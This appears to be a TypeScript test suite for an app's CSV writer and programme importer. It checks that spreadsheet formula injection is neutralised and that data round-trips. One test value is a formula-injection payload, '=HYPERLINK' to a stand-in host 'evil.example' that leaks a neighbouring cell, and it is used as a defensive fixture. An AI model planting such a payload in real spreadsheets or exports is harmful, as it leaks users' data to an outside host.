/**
 * Every CSV Gavel writes, pure: one cell writer that guards text a spreadsheet would run as a
 * formula (OWASP's list: `=`, `+`, `-`, `@`, tab, carriage return) and leaves numbers alone; the
 * record's and the programme's CSV written with it; and the programme importer reading back
 * exactly what the exporter wrote.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { CommandOf } from '../../shared/commands.ts';
import {
  csvCell,
  csvRow,
  csvTable,
  unguardCsvCell,
  type CsvDelimiter,
  type CsvValue,
} from '../../shared/csv.ts';
import { ITEM_KINDS, parseProgramme, type ProgrammeFile } from '../../shared/programme.ts';
import { exportProgrammeCsv, importProgrammeCsv, parseCsv } from '../../shared/programmeCsv.ts';
import { buildRecord, recordCsv } from '../../shared/record.ts';
import { Driver, MINUTE, delegate, plenary, plenaryJson } from './helpers.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"x")';
const DELIMITERS: readonly CsvDelimiter[] = [',', ';'];

/** The cells of a CSV table by header name, one object per row (the header row left out). */
function table(text: string, delimiter: CsvDelimiter = ','): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text, delimiter);
  return rows.map((row) =>
    Object.fromEntries((header?.cells ?? []).map((name, i) => [name, row.cells[i] ?? ''])),
  );
}

describe('csvCell', () => {
  it.each<[string, string, CsvDelimiter, string]>([
    ['=', '=1+2', ',', "'=1+2"],
    [
      '=, with quotes and a comma',
      HYPERLINK,
      ',',
      `"'=HYPERLINK(""http://evil.example/?leak=""&B2,""x"")"`,
    ],
    [
      '=, with quotes and a comma, semicolon file',
      HYPERLINK,
      ';',
      `"'=HYPERLINK(""http://evil.example/?leak=""&B2,""x"")"`,
    ],
    ['=, with the semicolon', '=SUM(A1;A2)', ';', `"'=SUM(A1;A2)"`],
    ['+', '+1 extra', ',', "'+1 extra"],
    ['-', '-based cooperation', ',', "'-based cooperation"],
    ['- as the text of a negative number', '-5', ',', "'-5"],
    ['@', '@SUM(A1:A9)', ';', "'@SUM(A1:A9)"],
    ['tab', '\t=1+2', ',', "'\t=1+2"],
    ['carriage return (quoted, as a line break must be)', '\r=1+2', ',', `"'\r=1+2"`],
    ['a text that already begins with a quote before a trigger', "'=1+2", ',', "''=1+2"],
    ['two quotes before a trigger', "''-x", ';', "'''-x"],
  ])('guards a text that begins with %s', (_, text, delimiter, written) => {
    expect(csvCell(text, delimiter)).toBe(written);
  });

  it.each<[string, string]>([
    ['France', 'France'],
    ['a=b+c-d@e', 'a=b+c-d@e'],
    ["l'eau", "l'eau"],
    ["'quoted'", "'quoted'"],
    ['2016-11-17T09:00:00.000Z', '2016-11-17T09:00:00.000Z'],
    ['', ''],
  ])('leaves a text that does not begin with a trigger as it is: %j', (text, written) => {
    for (const delimiter of DELIMITERS) expect(csvCell(text, delimiter)).toBe(written);
  });

  it.each<[number, string]>([
    [-5, '-5'],
    [-0.5, '-0.5'],
    [0, '0'],
    [240, '240'],
    [2.5, '2.5'],
  ])('writes the number %d as a number, unguarded', (value, written) => {
    for (const delimiter of DELIMITERS) expect(csvCell(value, delimiter)).toBe(written);
  });

  it.each<[CsvValue, CsvDelimiter, string]>([
    [null, ',', ''],
    [undefined, ';', ''],
    ['a,b', ',', '"a,b"'],
    ['a,b', ';', 'a,b'],
    ['a;b', ';', '"a;b"'],
    ['a;b', ',', 'a;b'],
    ['say "hi"', ',', '"say ""hi"""'],
    ['two\nlines', ';', '"two\nlines"'],
    ['two\r\nlines', ',', '"two\r\nlines"'],
    ['-say "hi", twice', ',', `"'-say ""hi"", twice"`],
  ])('quotes %j as CSV requires (delimiter %s)', (value, delimiter, written) => {
    expect(csvCell(value, delimiter)).toBe(written);
  });

  it('writes rows and tables with the delimiter, each row ended by CRLF', () => {
    expect(csvRow(['=x', -5, null, 'a;b'], ';')).toBe(`'=x;-5;;"a;b"`);
    expect(
      csvTable(
        [
          ['a', 'b'],
          [1, '+1'],
        ],
        ',',
      ),
    ).toBe("a,b\r\n1,'+1\r\n");
    expect(csvTable([], ',')).toBe('');
  });

  it('never lets a text cell begin with a trigger as a spreadsheet reads it, and reads back exactly', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.string({
            unit: fc.constantFrom(
              "'",
              '=',
              '+',
              '-',
              '@',
              '\t',
              '\r',
              '\n',
              '"',
              ',',
              ';',
              'a',
              ' ',
            ),
          }),
        ),
        fc.constantFrom(...DELIMITERS),
        (text, delimiter) => {
          const rows = parseCsv(csvRow(['start', text, 'end'], delimiter), delimiter);
          expect(rows).toHaveLength(1);
          const cell = rows[0]?.cells[1] ?? '';
          expect(cell).not.toMatch(/^[=+\-@\t\r]/);
          expect(unguardCsvCell(cell)).toBe(text);
        },
      ),
    );
  });

  it('writes every number as the number it is', () => {
    fc.assert(
      fc.property(fc.oneof(fc.integer(), fc.double({ noNaN: true })), (n) => {
        expect(csvCell(n, ',')).toBe(String(n));
      }),
    );
  });
});

describe("the record's CSV", () => {
  it('guards a delegation, a speaker and a reason typed on a phone', () => {
    const d = new Driver();
    d.ok({ type: 'session.start' });
    d.ok({ type: 'segment.end' });
    d.ok({ type: 'floor.open' });
    const request: CommandOf<'floor.request'> = {
      type: 'floor.request',
      delegation: HYPERLINK,
      kind: 'statement',
      speakerName: '@admin',
      onBehalfOf: '+1 (555) 0100',
    };
    d.ok(request, delegate('device-evil'));
    const first = d.lastRequestId();
    d.ok(
      { ...request, delegation: '-2+3', speakerName: 'Mr Dupont', onBehalfOf: undefined },
      delegate('device-2'),
    );
    d.ok({ type: 'floor.decline', requestId: d.lastRequestId(), reason: '=1+1' });
    d.ok({ type: 'floor.approve', requestId: first });
    d.ok({ type: 'floor.give', requestId: first, start: true });
    d.tick(2 * MINUTE).ok({ type: 'speaker.finish' });

    const record = buildRecord(d.state, d.now);
    const requests = recordCsv(record, 'requests');
    expect(requests).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&B2,""x"")",`);
    expect(
      table(requests).map((r) => [r.delegation, r.speaker, r.on_behalf_of, r.reason, r.spoken_s]),
    ).toEqual([
      [`'${HYPERLINK}`, "'@admin", "'+1 (555) 0100", '', '120'],
      ["'-2+3", 'Mr Dupont', '', "'=1+1", '0'],
    ]);
    const turns = table(recordCsv(record, 'turns'));
    expect(turns.map((t) => [t.delegation, t.on_behalf_of, t.spoken_s])).toEqual([
      [`'${HYPERLINK}`, "'+1 (555) 0100", '120'],
    ]);
  });
});

describe("the record's CSV in the report's language", () => {
  it('names segments, honorifics and delegations in French with lang fr, in English by default', () => {
    const d = new Driver(plenary());
    d.ok({ type: 'session.start' });
    d.ok({ type: 'speaker.next', start: true });
    d.tick(2 * MINUTE).ok({ type: 'segment.end' });
    d.ok({ type: 'floor.open' });
    d.ok({ type: 'floor.request', delegation: 'zaf', kind: 'statement' });
    d.ok({ type: 'speaker.next', start: true });
    d.tick(3 * MINUTE).ok({ type: 'speaker.finish' });
    const record = buildRecord(d.state, d.now);
    const rows = (lang?: string) =>
      table(recordCsv(record, 'turns', ',', lang)).map((t) => [t.segment, t.speaker, t.delegation]);
    expect(rows('fr')).toEqual([
      ['Groupe de discussion interactif', 'S.E. M. Paul Wilke', ''],
      ['Segment interactif — débat ouvert aux États Parties', 'Afrique du Sud', 'Afrique du Sud'],
    ]);
    expect(rows()).toEqual([
      ['Interactive panel', 'Ambassador Paul Wilke', ''],
      ['Interactive segment — open floor for States Parties', 'South Africa', 'South Africa'],
    ]);
    expect(table(recordCsv(record, 'segments', ',', 'fr')).map((s) => s.title)).toEqual([
      'Groupe de discussion interactif',
      'Segment interactif — débat ouvert aux États Parties',
      'Observations finales',
    ]);
  });
});

/** A programme whose texts begin with every trigger, and with a quote before one. */
const TRICKY: ProgrammeFile = {
  id: 'tricky',
  title: 'Tricky',
  timeZone: 'Europe/Amsterdam',
  segments: [
    {
      id: 'panel',
      kind: 'panel',
      title: '=Panel',
      budget: 20,
      items: [
        {
          id: 'a',
          kind: 'presentation',
          speaker: { honorific: '@Dr', name: HYPERLINK, function: '-Chair', organisation: '+ICC' },
          topic: '-based cooperation',
          minutes: 10,
          note: '+1 extra',
        },
        {
          id: 'b',
          kind: 'presentation',
          speaker: { name: "'=already quoted" },
          topic: "l'Assemblée; a, b",
          minutes: '2:30',
          warning: 1,
          danger: '0:30',
          note: '@mention "quoted"',
        },
      ],
    },
    { id: 'floor', kind: 'floor', title: '-Open floor', budget: 30 },
  ],
};

describe("the programme's CSV", () => {
  it.each(DELIMITERS)(
    'guards the segment, speaker, topic and note cells (delimiter %s)',
    (delimiter) => {
      const rows = table(exportProgrammeCsv(TRICKY, delimiter), delimiter);
      expect(
        rows.map((r) => [
          r.segment,
          r.honorific,
          r.name,
          r.function,
          r.organisation,
          r.topic,
          r.note,
        ]),
      ).toEqual([
        [
          "'=Panel",
          "'@Dr",
          `'${HYPERLINK}`,
          "'-Chair",
          "'+ICC",
          "'-based cooperation",
          "'+1 extra",
        ],
        ["'=Panel", '', "''=already quoted", '', '', "l'Assemblée; a, b", `'@mention "quoted"`],
        ["'-Open floor", '', '', '', '', '', ''],
      ]);
      expect(rows.map((r) => [r['segment budget'], r.minutes, r.warning, r.danger])).toEqual([
        ['20', '10', '', ''],
        ['20', '2:30', '1', '0:30'],
        ['30', '', '', ''],
      ]);
    },
  );

  it('makes item ids from the names when the column is absent, unique with -2, -3', () => {
    const csv = [
      'Segment,Segment kind,Segment budget,Kind,Honorific,Name,Minutes',
      'Panel,panel,30,remarks,Ms,Fatou Bensouda,5',
      'Panel,panel,30,presentation,Mr,Arie IJzerman,5',
      'Panel,panel,30,summary,Ms,Fatou Bensouda,5',
      'Questions,panel,10,answer,Ms,Fatou Bensouda,3',
      'Questions,panel,10,remarks,,عبد الله,3',
    ].join('\r\n');
    const result = importProgrammeCsv(csv, { id: 's', title: 'S', timeZone: 'UTC' });
    if (!result.ok) throw new Error(JSON.stringify(result.problems));
    expect(
      result.programme.segments.flatMap((s) =>
        s.kind === 'panel' ? s.items.map((i) => i.id) : [],
      ),
    ).toEqual(['fatou-bensouda', 'arie-ijzerman', 'fatou-bensouda-2', 'fatou-bensouda-3', 'item']);
  });

  it('makes an id for an empty cell that never takes an id the file gives later', () => {
    const csv = [
      'segment;segment kind;segment budget;item id;kind;name;minutes',
      'Panel;panel;30;;remarks;Fatou Bensouda;5',
      'Panel;panel;30;fatou-bensouda;presentation;Fatou Bensouda;5',
      'Panel;panel;30;;summary;Arie IJzerman;5',
    ].join('\r\n');
    const result = importProgrammeCsv(csv, { id: 's', title: 'S', timeZone: 'UTC' });
    if (!result.ok) throw new Error(JSON.stringify(result.problems));
    const [panel] = result.programme.segments;
    expect(panel?.kind === 'panel' && panel.items.map((i) => i.id)).toEqual([
      'fatou-bensouda-2',
      'fatou-bensouda',
      'arie-ijzerman',
    ]);
  });

  it('still refuses an id the file gives twice', () => {
    const csv = [
      'segment,segment kind,segment budget,item id,kind,name,minutes',
      'Panel,panel,30,a,remarks,Ms A,5',
      'Panel,panel,30,a,remarks,Mr B,5',
    ].join('\r\n');
    const result = importProgrammeCsv(csv, { id: 's', title: 'S', timeZone: 'UTC' });
    expect(!result.ok && result.problems.map((p) => [p.line, p.column])).toEqual([[3, 'item id']]);
  });

  it.each(DELIMITERS)('imports back exactly what it exported (delimiter %s)', (delimiter) => {
    const csv = exportProgrammeCsv(TRICKY, delimiter);
    const back = importProgrammeCsv(csv, {
      id: TRICKY.id,
      title: TRICKY.title,
      timeZone: TRICKY.timeZone,
    });
    if (!back.ok) throw new Error(JSON.stringify(back.problems));
    // The importer names segments after their titles; everything else comes back as it was.
    const withoutIds = (file: ProgrammeFile) => file.segments.map(({ id: _, ...rest }) => rest);
    expect(withoutIds(back.file)).toEqual(withoutIds(TRICKY));
    expect(exportProgrammeCsv(back.file, delimiter)).toBe(csv);
    const [panel] = back.programme.segments;
    expect(
      panel?.kind === 'panel' && panel.items.map((i) => [i.speaker.name, i.topic, i.note]),
    ).toEqual([
      [HYPERLINK, '-based cooperation', '+1 extra'],
      ["'=already quoted", "l'Assemblée; a, b", '@mention "quoted"'],
    ]);
  });
});

/* A programme file, JSON → CSV → JSON. */

/** Text as a spreadsheet cell holds it: quotes, delimiters, line breaks, formula characters. */
const cellText = fc
  .string({
    unit: fc.constantFrom(
      'a',
      'Z',
      'é',
      '’',
      ' ',
      ',',
      ';',
      '"',
      "'",
      '=',
      '+',
      '-',
      '@',
      '\n',
      'ع',
    ),
    minLength: 1,
    maxLength: 12,
  })
  .filter((s) => s.trim() === s && s !== '');

/** A text people read: plain, or some of the programme's languages (the first or not). */
const localTextOf = (languages: readonly string[]) =>
  fc.oneof(
    cellText,
    fc
      .shuffledSubarray([...languages], { minLength: 1 })
      .chain((codes) =>
        fc
          .tuple(...codes.map(() => cellText))
          .map((texts) => Object.fromEntries(codes.map((code, i) => [code, texts[i] ?? '']))),
      ),
  );

/** A duration as a file writes it: whole minutes, or "m:ss", to the second. */
const durationOf = (maxSeconds: number) =>
  fc
    .integer({ min: 1, max: maxSeconds })
    .chain((s) =>
      s % 60 === 0
        ? fc.constant<number | string>(s / 60)
        : fc.constant(`${Math.floor(s / 60)}:${String(s % 60).padStart(2, '0')}`),
    );

const idText = fc.stringMatching(/^[a-z0-9][a-z0-9-]{0,8}$/);

const programmeFiles = fc
  .constantFrom<readonly string[]>(['en', 'fr'], ['fr', 'en'], ['en'], ['en', 'fr', 'ar'])
  .chain((languages) => {
    const text = localTextOf(languages);
    const item = (id: string) =>
      fc
        .record(
          {
            kind: fc.constantFrom(...ITEM_KINDS),
            honorific: text,
            name: cellText,
            function: text,
            organisation: text,
            delegation: fc.constantFrom('nld', 'fra', 'icc-otp', 'zaf'),
            topic: text,
            minutes: durationOf(20 * 60),
            thresholds: fc
              .tuple(fc.integer({ min: 0, max: 300 }), fc.integer({ min: 0, max: 300 }))
              .map(([a, b]) => [Math.max(a, b), Math.min(a, b)] as const),
            note: cellText,
          },
          { requiredKeys: ['kind', 'name', 'minutes'] },
        )
        .map(
          ({ honorific, function: fn, organisation, delegation, name, thresholds, ...rest }) => ({
            id,
            kind: rest.kind,
            speaker: {
              ...(honorific === undefined ? {} : { honorific }),
              name,
              ...(fn === undefined ? {} : { function: fn }),
              ...(organisation === undefined ? {} : { organisation }),
              ...(delegation === undefined ? {} : { delegation }),
            },
            ...(rest.topic === undefined ? {} : { topic: rest.topic }),
            minutes: rest.minutes,
            ...(thresholds === undefined
              ? {}
              : {
                  warning: thresholds[0] / 60,
                  danger: `0:${String(thresholds[1] % 60).padStart(2, '0')}`,
                }),
            ...(rest.note === undefined ? {} : { note: rest.note }),
          }),
        );
    const times = fc.record(
      {
        statement: durationOf(600),
        question: durationOf(600),
        answer: durationOf(600),
        reply: durationOf(600),
        'point-of-order': durationOf(120),
      },
      { requiredKeys: [] },
    );
    return fc
      .uniqueArray(idText, { minLength: 1, maxLength: 12 })
      .chain((ids) => {
        // Segments take ids from the front, their items from what is left.
        const segmentCount = Math.max(1, Math.ceil(ids.length / 3));
        const segmentIds = ids.slice(0, segmentCount);
        const itemIds = ids.slice(segmentCount);
        return fc.tuple(
          ...segmentIds.map((id, s) =>
            fc.oneof(
              fc.record({
                id: fc.constant(id),
                kind: fc.constant('panel' as const),
                title: text,
                budget: durationOf(180 * 60),
                items: fc.tuple(
                  ...itemIds.filter((_, i) => i % segmentCount === s).map((itemId) => item(itemId)),
                ),
              }),
              fc.record(
                {
                  id: fc.constant(id),
                  kind: fc.constant('floor' as const),
                  title: text,
                  budget: durationOf(180 * 60),
                  times,
                },
                { requiredKeys: ['id', 'kind', 'title', 'budget'] },
              ),
            ),
          ),
        );
      })
      .chain((segments) =>
        fc.record({
          title: text,
          venue: text,
          segments: fc.constant(segments),
          languages: fc.constant(languages),
        }),
      );
  })
  .map(({ title, venue, segments, languages }): ProgrammeFile => ({
    id: 'round-trip',
    title,
    venue,
    dates: { from: '2016-11-16', to: '2016-11-24' },
    plannedStart: '2016-11-17T10:00',
    timeZone: 'Europe/Amsterdam',
    languages: [...languages],
    segments: segments as ProgrammeFile['segments'],
  }));

/**
 * JSON → CSV → JSON. A spreadsheet carries every segment and item field; what it cannot carry
 * comes with the upload (the session's id, title, venue, dates, planned start, time zone and
 * languages: a spreadsheet has no room for the meeting itself), and the programme is compared as
 * Gavel runs it, since a spreadsheet writes the same thing one way where JSON allows several:
 * minutes as `12` or `"12:00"`, `{"en": "x"}` or `"x"` in a programme whose first language is
 * English, a map's languages in any order. Durations go to the second: a file's `2.001` minutes
 * would come back as `2:00`.
 */
function roundTrip(file: ProgrammeFile, delimiter: CsvDelimiter) {
  const csv = exportProgrammeCsv(file, delimiter);
  const back = importProgrammeCsv(csv, {
    id: file.id,
    title: file.title,
    timeZone: file.timeZone,
    plannedStart: file.plannedStart ?? null,
    ...(file.venue === undefined ? {} : { venue: file.venue }),
    ...(file.dates === undefined ? {} : { dates: file.dates }),
    ...(file.languages === undefined ? {} : { languages: file.languages }),
  });
  return { csv, back };
}

describe('a programme file, JSON → CSV → JSON', () => {
  it.each(DELIMITERS)(
    'gives back any programme a spreadsheet can hold (delimiter %s)',
    (delimiter) => {
      fc.assert(
        fc.property(programmeFiles, (file) => {
          const before = parseProgramme(file);
          if (!before.ok) throw new Error(JSON.stringify(before.problems));
          const { csv, back } = roundTrip(file, delimiter);
          if (!back.ok) throw new Error(`${JSON.stringify(back.problems)}\n${csv}`);
          expect(back.programme).toEqual(before.programme);
          // And the CSV of what came back is the same CSV.
          expect(exportProgrammeCsv(back.file, delimiter)).toBe(csv);
        }),
        { numRuns: 150 },
      );
    },
  );

  it.each(DELIMITERS)(
    'gives back the built-in plenary, in English and French (delimiter %s)',
    (delimiter) => {
      const file = plenaryJson() as unknown as ProgrammeFile;
      const { csv, back } = roundTrip(file, delimiter);
      if (!back.ok) throw new Error(JSON.stringify(back.problems));
      expect(back.programme).toEqual(plenary());
      const rows = table(csv, delimiter);
      const bensouda = rows.find((r) => r['item id'] === 'bensouda');
      expect(bensouda).toMatchObject({
        segment: 'Interactive panel',
        'segment (fr)': 'Groupe de discussion interactif',
        honorific: 'Ms',
        'honorific (fr)': 'Mme',
        function: 'Prosecutor',
        'function (fr)': 'Procureure',
        delegation: 'icc-otp',
      });
      const floor = rows.find((r) => r['segment id'] === 'floor');
      expect(floor).toMatchObject({
        'segment kind': 'floor',
        'statement time': '3',
        'question time': '2',
        'point of order time': '1',
      });
    },
  );
});
